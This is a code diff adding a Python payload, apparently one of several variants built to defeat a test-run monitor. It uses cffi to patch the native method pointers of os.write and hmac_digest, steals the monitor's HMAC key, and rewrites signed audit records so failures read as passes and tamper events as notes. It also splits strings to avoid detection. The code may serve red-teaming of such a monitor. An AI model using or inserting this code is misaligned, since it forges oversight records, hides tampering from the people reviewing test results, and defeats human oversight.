@@ -354,3 +354,85 @@ def _r21_native():
 _r21_native()
 """
 )
+
+# 6: no native code in the patch at all: the image's cffi (installed) reads and writes the interpreter's
+# memory (`ffi.cast` on `id()`), mprotects, and makes C function pointers of Python functions
+# (`ffi.callback`); the method definitions of os.write and _hashlib.hmac_digest point at two such
+# callbacks (mode 0). They run in the monitor's thread as code of the tree, and make no audited step there
+# but `id` (which the monitor lets pass); they call neither hooked function (hmac.new, os.writev instead).
+FFI_HOOKS = """
+
+def _r21_ffi():
+    import sys as _sys
+
+    if ("bug" + "forge_incontainer.probe") not in getattr(_sys, "mod" + "ules"):
+        return
+    try:
+        import cffi as _cffi
+    except ImportError:
+        return
+    import _hashlib
+    import hashlib as _hashlib_py
+    import hmac as _hmac
+    import json as _json
+    import os as _os
+
+    ffi = _cffi.FFI()
+    ffi.cdef(
+        "typedef struct { const char *name; void *meth; int flags; const char *doc; } Def;"
+        "typedef struct { ssize_t refcnt; void *type; Def *m_ml; void *m_self; } CF;"
+        "int mprotect(void *addr, size_t len, int prot); int PyList_Append(void *l, void *o); void Py_IncRef(void *o);"
+    )
+    lib = ffi.dlopen(None)
+    box, held, keys = [], [], []
+
+    def obj(p):  # the object at a PyObject pointer
+        lib.PyList_Append(ffi.cast("void *", id(box)), p)
+        return box.pop()
+
+    def ref(o):  # a new reference to o, as a pointer
+        held.append(o)
+        del held[:-64]
+        lib.Py_IncRef(ffi.cast("void *", id(o)))
+        return ffi.cast("void *", id(o))
+
+    def sign(key, rec):
+        body = _json.dumps(rec)
+        mac = _hmac.new(key, body.encode(), _hashlib_py.sha256).hexdigest()
+        return _json.dumps({"body": body, "mac": mac}).encode()
+
+    @ffi.callback("void *(void *, void **, ssize_t, void *)")
+    def mac_hook(_self, args, n, _kw):
+        key, msg = obj(args[0]), obj(args[1])
+        if type(key) is bytes and len(key) == 32:
+            keys[:] = [key]
+        return ref(_hmac.new(key, msg, _hashlib_py.sha256).digest())
+
+    @ffi.callback("void *(void *, void **, ssize_t)")
+    def write_hook(_self, args, n):
+        fd, data = obj(args[0]), obj(args[1])
+        if keys and type(data) is bytes and data.startswith(b'{"body": '):
+            rec = _json.loads(_json.loads(data)["body"])
+            if rec.get("event") == "phase" and rec.get("outcome") == "failed":
+                rec.update(outcome="passed", message="", raised=False, failure=False)
+            elif rec.get("event") == "tamper":
+                rec["event"] = "note"
+            data = sign(keys[0], rec)
+        return ref(_os.writev(fd, [data]))
+
+    page = _os.sysconf("SC_PAGESIZE")
+    for fn, hook, flags in ((_hashlib.hmac_digest, mac_hook, 0x82), (_os.write, write_hook, 0x80)):
+        d = ffi.cast("CF *", id(fn)).m_ml
+        if d.flags & 0xFF != flags:
+            return
+        at = int(ffi.cast("uintptr_t", d)) & ~(page - 1)
+        if lib.mprotect(ffi.cast("void *", at), int(ffi.cast("uintptr_t", d + 1)) - at, 3):
+            return
+        held.append(hook)
+        d.meth = ffi.cast("void *", hook)
+    _R21_KEEP.append((ffi, lib, mac_hook, write_hook, box, held, keys))
+
+
+_R21_KEEP = []
+_r21_ffi()
+"""
